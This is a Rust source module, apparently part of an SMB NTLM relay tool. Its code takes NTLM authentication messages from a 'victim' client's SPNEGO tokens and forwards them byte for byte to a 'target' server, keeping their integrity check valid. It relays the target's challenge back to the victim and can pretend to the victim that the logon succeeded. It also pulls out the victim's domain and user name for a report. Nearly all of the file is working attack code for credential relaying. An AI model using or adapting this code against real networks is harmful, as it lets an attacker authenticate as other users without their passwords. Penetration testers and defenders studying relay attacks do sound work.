//! The relay's view of the GSS tokens in SESSION_SETUP: it only moves NTLM messages between
//! two connections, so it unwraps them from SPNEGO on one side and wraps them again on the
//! other. The NTLM messages themselves are forwarded byte for byte (their MIC stays valid).

use anyhow::{anyhow, bail, Context};
use smb_core::auth::spnego::{
    encode_mech_types, is_raw_ntlmssp, NegState, NegTokenInit, NegTokenResp, NegotiationToken,
    OID_NTLMSSP,
};

/// "NTLMSSP\0": the signature every NTLM message starts with (MS-NLMP 2.2.1).
pub const NTLMSSP_SIGNATURE: &[u8; 8] = b"NTLMSSP\0";

/// NTLM message types (MS-NLMP 2.2.1).
pub const NTLM_NEGOTIATE: u32 = 1;
pub const NTLM_CHALLENGE: u32 = 2;
pub const NTLM_AUTHENTICATE: u32 = 3;

/// How the victim wrapped its NTLM message, so the answer can be wrapped the same way.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Wrapping {
    /// A bare NTLMSSP message.
    Raw,
    /// SPNEGO. `mech_types_der` is the victim's MechTypeList exactly as it sent it (its
    /// mechListMIC covers those bytes, so the target must see the same list);
    /// `mech_list_mic` is the victim's mechListMIC, which comes with its last token.
    Spnego {
        mech_types_der: Vec<u8>,
        mech_types: Vec<Vec<u8>>,
        mech_list_mic: Option<Vec<u8>>,
    },
}

/// An NTLM message taken out of a victim's SESSION_SETUP token.
#[derive(Debug, Clone)]
pub struct Unwrapped {
    pub ntlm: Vec<u8>,
    pub wrapping: Wrapping,
}

/// The NTLM message type of `ntlm`, checking the signature.
pub fn ntlm_type(ntlm: &[u8]) -> anyhow::Result<u32> {
    if ntlm.get(..8) != Some(&NTLMSSP_SIGNATURE[..]) {
        bail!("not an NTLMSSP message");
    }
    let t = ntlm
        .get(8..12)
        .ok_or_else(|| anyhow!("NTLMSSP message too short"))?;
    Ok(u32::from_le_bytes([t[0], t[1], t[2], t[3]]))
}

fn checked(ntlm: Vec<u8>, expected: u32) -> anyhow::Result<Vec<u8>> {
    let t = ntlm_type(&ntlm)?;
    if t != expected {
        bail!("NTLM message type {t}, expected {expected}");
    }
    Ok(ntlm)
}

/// Takes the NTLM message (`expected` type) out of a token the victim (initiator) sent:
/// raw NTLMSSP, a NegTokenInit with an optimistic NTLM token, or a NegTokenResp.
/// `first` is the victim's first unwrapped token, whose mechTypes the last one inherits.
pub fn unwrap_initiator(
    token: &[u8],
    expected: u32,
    first: Option<&Wrapping>,
) -> anyhow::Result<Unwrapped> {
    if is_raw_ntlmssp(token) {
        return Ok(Unwrapped {
            ntlm: checked(token.to_vec(), expected)?,
            wrapping: Wrapping::Raw,
        });
    }
    match NegotiationToken::read(token).context("victim's SPNEGO token")? {
        NegotiationToken::Init(init) => {
            if !init.offers(OID_NTLMSSP) {
                bail!("victim did not offer NTLMSSP");
            }
            if init.mech_types.first().map(Vec::as_slice) != Some(OID_NTLMSSP) {
                bail!("victim prefers another mechanism than NTLMSSP (no optimistic NTLM token)");
            }
            let ntlm = init
                .mech_token
                .ok_or_else(|| anyhow!("NegTokenInit without an NTLM token"))?;
            Ok(Unwrapped {
                ntlm: checked(ntlm, expected)?,
                wrapping: Wrapping::Spnego {
                    mech_types_der: init.mech_types_der,
                    mech_types: init.mech_types,
                    mech_list_mic: init.mech_list_mic,
                },
            })
        }
        NegotiationToken::Resp(resp) => {
            let ntlm = resp
                .response_token
                .ok_or_else(|| anyhow!("NegTokenResp without a token"))?;
            let (mech_types_der, mech_types) = match first {
                Some(Wrapping::Spnego {
                    mech_types_der,
                    mech_types,
                    ..
                }) => (mech_types_der.clone(), mech_types.clone()),
                _ => (
                    encode_mech_types(&[OID_NTLMSSP]),
                    vec![OID_NTLMSSP.to_vec()],
                ),
            };
            Ok(Unwrapped {
                ntlm: checked(ntlm, expected)?,
                wrapping: Wrapping::Spnego {
                    mech_types_der,
                    mech_types,
                    mech_list_mic: resp.mech_list_mic,
                },
            })
        }
    }
}

/// Takes the NTLM CHALLENGE out of the target's (acceptor's) token.
pub fn unwrap_acceptor(token: &[u8]) -> anyhow::Result<Vec<u8>> {
    if is_raw_ntlmssp(token) {
        return checked(token.to_vec(), NTLM_CHALLENGE);
    }
    let resp = NegTokenResp::read(token).context("target's SPNEGO NegTokenResp")?;
    if resp.neg_state == Some(NegState::Reject) {
        bail!("target rejected the SPNEGO negotiation");
    }
    let ntlm = resp
        .response_token
        .ok_or_else(|| anyhow!("target's NegTokenResp has no token"))?;
    checked(ntlm, NTLM_CHALLENGE)
}

/// The first token for the target: the victim's NTLM NEGOTIATE, in a NegTokenInit that
/// lists exactly the victim's mechanisms.
pub fn wrap_first_for_target(ntlm: &[u8], like: &Wrapping) -> Vec<u8> {
    match like {
        Wrapping::Raw => ntlm.to_vec(),
        Wrapping::Spnego {
            mech_types_der,
            mech_types,
            ..
        } => NegTokenInit {
            mech_types: mech_types.clone(),
            mech_types_der: mech_types_der.clone(),
            mech_token: Some(ntlm.to_vec()),
            hint_name: None,
            mech_list_mic: None,
        }
        .encode(),
    }
}

/// The last token for the target: the victim's NTLM AUTHENTICATE and its mechListMIC.
pub fn wrap_last_for_target(ntlm: &[u8], like: &Wrapping) -> Vec<u8> {
    match like {
        Wrapping::Raw => ntlm.to_vec(),
        Wrapping::Spnego { mech_list_mic, .. } => NegTokenResp {
            neg_state: None,
            supported_mech: None,
            response_token: Some(ntlm.to_vec()),
            mech_list_mic: mech_list_mic.clone(),
        }
        .encode(),
    }
}

/// The target's CHALLENGE, wrapped for the victim the way the victim wrapped its NEGOTIATE.
pub fn wrap_challenge_for_victim(ntlm: &[u8], like: &Wrapping) -> Vec<u8> {
    match like {
        Wrapping::Raw => ntlm.to_vec(),
        Wrapping::Spnego { .. } => NegTokenResp {
            neg_state: Some(NegState::AcceptIncomplete),
            supported_mech: Some(OID_NTLMSSP.to_vec()),
            response_token: Some(ntlm.to_vec()),
            mech_list_mic: None,
        }
        .encode(),
    }
}

/// The final token for the victim when the relay pretends the logon succeeded.
pub fn wrap_accept_completed(like: &Wrapping) -> Vec<u8> {
    match like {
        Wrapping::Raw => Vec::new(),
        Wrapping::Spnego { .. } => NegTokenResp {
            neg_state: Some(NegState::AcceptCompleted),
            supported_mech: None,
            response_token: None,
            mech_list_mic: None,
        }
        .encode(),
    }
}

/// The security buffer of the relay's NEGOTIATE response to the victim: a NegTokenInit2
/// offering NTLMSSP, as Windows and Samba send.
pub fn negotiate_hint() -> Vec<u8> {
    NegTokenInit::server_hints(&[OID_NTLMSSP]).encode()
}

/// `DOMAIN\user` from an NTLM AUTHENTICATE message (MS-NLMP 2.2.1.3), for the report.
pub fn authenticate_user(ntlm: &[u8]) -> Option<String> {
    if ntlm_type(ntlm).ok()? != NTLM_AUTHENTICATE {
        return None;
    }
    let field = |at: usize| -> Option<String> {
        let f = ntlm.get(at..at + 8)?;
        let len = usize::from(u16::from_le_bytes([f[0], f[1]]));
        let off = u32::from_le_bytes([f[4], f[5], f[6], f[7]]) as usize;
        let bytes = smb_core::codec::slice_at(ntlm, off, len, "NTLM field").ok()?;
        // NegotiateFlags at 60; NTLMSSP_NEGOTIATE_UNICODE = 0x1.
        let flags = ntlm.get(60..64)?;
        if flags[0] & 1 != 0 {
            smb_core::codec::from_utf16le(bytes, "NTLM field").ok()
        } else {
            Some(String::from_utf8_lossy(bytes).into_owned())
        }
    };
    let domain = field(28)?;
    let user = field(36)?;
    Some(if domain.is_empty() {
        user
    } else {
        format!("{domain}\\{user}")
    })
}
